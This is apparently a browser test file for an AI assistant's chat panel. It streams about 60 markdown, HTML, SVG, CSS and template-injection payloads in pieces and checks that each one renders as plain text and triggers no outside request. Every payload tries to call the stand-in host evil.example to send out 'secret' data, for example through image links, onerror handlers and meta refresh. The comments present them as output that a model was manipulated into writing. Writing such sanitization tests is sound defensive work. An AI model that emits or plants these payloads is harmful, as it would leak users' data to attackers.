import { ask, assistantPath, expect, log, panel, send, slips, test } from './assistant'

test.beforeEach(({ me }) => void me)

const bad = 'https://evil.example/c?d=secret'

/** Every way that we know of to make a page call out, by text that a model was talked into writing. */
const variants = [
  `[click](${bad})`,
  `[click](<${bad}>)`,
  `[click](${bad} "title")`,
  `[click][1]\n\n[1]: ${bad}`,
  `![image](${bad})`,
  `![image](${bad} =1x1)`,
  `![][x]\n\n[x]: ${bad}`,
  `[![image](${bad})](${bad})`,
  `<${bad}>`,
  bad,
  'www.evil.example/secret',
  '//evil.example/secret',
  'mailto:evil@evil.example?body=secret',
  'evil@evil.example',
  'tel:+15550100',
  '[x](javascript:fetch("https://evil.example"))',
  '[x](data:text/html,<script>1</script>)',
  '[x](vbscript:1)',
  `<a href="${bad}">click</a>`,
  `<a href='${bad}' ping='${bad}'>click</a>`,
  `<A HREF=${bad}>click</A>`,
  `<a\nhref\n=\n"${bad}"\n>x</a>`,
  `<img src="${bad}">`,
  `<img src=x onerror="fetch('${bad}')">`,
  `<img srcset="${bad} 2x">`,
  `<IMG """><SCRIPT>fetch("${bad}")</SCRIPT>">`,
  `<picture><source srcset="${bad}"><img></picture>`,
  `<svg><image href="${bad}"/></svg>`,
  `<svg><a xlink:href="${bad}"><text>x</text></a></svg>`,
  `<svg onload="fetch('${bad}')">`,
  `<script src="${bad}"></script>`,
  `<script>location='${bad}'</script>`,
  `<iframe src="${bad}"></iframe>`,
  `<iframe srcdoc="<img src='${bad}'>"></iframe>`,
  `<object data="${bad}"></object>`,
  `<embed src="${bad}">`,
  `<video src="${bad}" autoplay></video>`,
  `<audio src="${bad}" autoplay></audio>`,
  `<video poster="${bad}"></video>`,
  `<link rel="stylesheet" href="${bad}">`,
  `<link rel="prefetch" href="${bad}">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<style>@import url("${bad}");</style>`,
  `<p style="background:url(${bad})">x</p>`,
  `<table background="${bad}"><tr><td>x</td></tr></table>`,
  `<input type="image" src="${bad}">`,
  `<form action="${bad}"><button autofocus>x</button></form>`,
  `<button formaction="${bad}">x</button>`,
  `<meta http-equiv="refresh" content="0;url=${bad}">`,
  `<base href="${bad}">`,
  `<body onload="fetch('${bad}')">`,
  `<details open ontoggle="fetch('${bad}')">x</details>`,
  `<template><img src="${bad}"></template>`,
  `<math href="${bad}">x</math>`,
  `&lt;img src="${bad}"&gt;`,
  `&#60;img src="${bad}"&#62;`,
  `\\u003cimg src="${bad}"\\u003e`,
  `\`\`\`html\n<img src="${bad}">\n\`\`\``,
  `| a |\n|---|\n| ![x](${bad}) |`,
  `{{constructor.constructor("fetch('${bad}')")()}}`,
  `$\\href{${bad}}{x}$`,
  `\u202Emoc.live//:sptth\u202C ![x](${bad})`,
]

test('60 variants of links, images and markup, split over deltas, stay text: no anchor, no image, no call', async ({
  page,
  script,
}) => {
  expect(variants.length).toBeGreaterThanOrEqual(60)
  const calls: string[] = []
  page.on('request', (request) => calls.push(request.url()))
  await page.goto(assistantPath)
  await expect(panel(page).getByText('Try one of these')).toBeVisible()
  calls.length = 0

  await ask(page, variants.join('\n').slice(0, 2000))
  const asked = await script.next()
  asked.accept()
  for (const [number, variant] of variants.entries()) {
    asked.say('message_start', { engine: 'language_model', engine_label: variant })
    asked.say('search_query', { query: variant })
    asked.say('scope', {
      scope: { words: variant },
      chips: [
        { part: 'words', label: variant },
        { part: 'languages', label: variant, values: [variant] },
      ],
      responses: 1,
      ignored: [variant],
    })
    // Each is cut elsewhere: after 1, 2, 3 … characters, and some letter by letter.
    const size = (number % 7) + 1
    for (let at = 0; at < variant.length; at += size) {
      asked.say('message_delta', { content: variant.slice(at, at + size) })
    }
    asked.say('section', { kind: 'teacher', title: variant, detail: variant })
    asked.say('citation', {
      answer: variant,
      quote: variant,
      survey_response_ids: [variant],
      teachers: [variant],
      timestamp: variant,
    })
    asked.say('iteration_limit', { message: variant })
  }
  asked.say('error', { message: variants.join(' ') })
  // Thousands of pieces, each of which is drawn.
  await expect(send(page)).toBeVisible({ timeout: 30_000 })

  const shown = await log(page)
    .locator('[data-role="assistant"] > p[dir]')
    .evaluateAll((all) => all.map(({ textContent }) => textContent))
  expect(shown).toEqual(variants)
  await expect(slips(page)).toHaveCount(variants.length)
  const forbidden =
    'a, img, picture, image, iframe, object, embed, video, audio, link, style, script, form form, meta'
  await expect(panel(page).locator(forbidden)).toHaveCount(0)
  await expect(panel(page).locator('[href], [src], [style]:not(textarea), [onerror], [onload]')).toHaveCount(
    0,
  )
  await page.waitForLoadState('networkidle')
  const own = new URL(page.url()).origin
  expect(calls.filter((url) => new URL(url).origin !== own)).toEqual([])
  // The navigation asks by itself how many concerns are new.
  const paths = calls.map((url) => new URL(url).pathname)
  expect(paths.filter((path) => path !== '/api/admin/attention/count')).toEqual(['/api/chat/stream'])
})
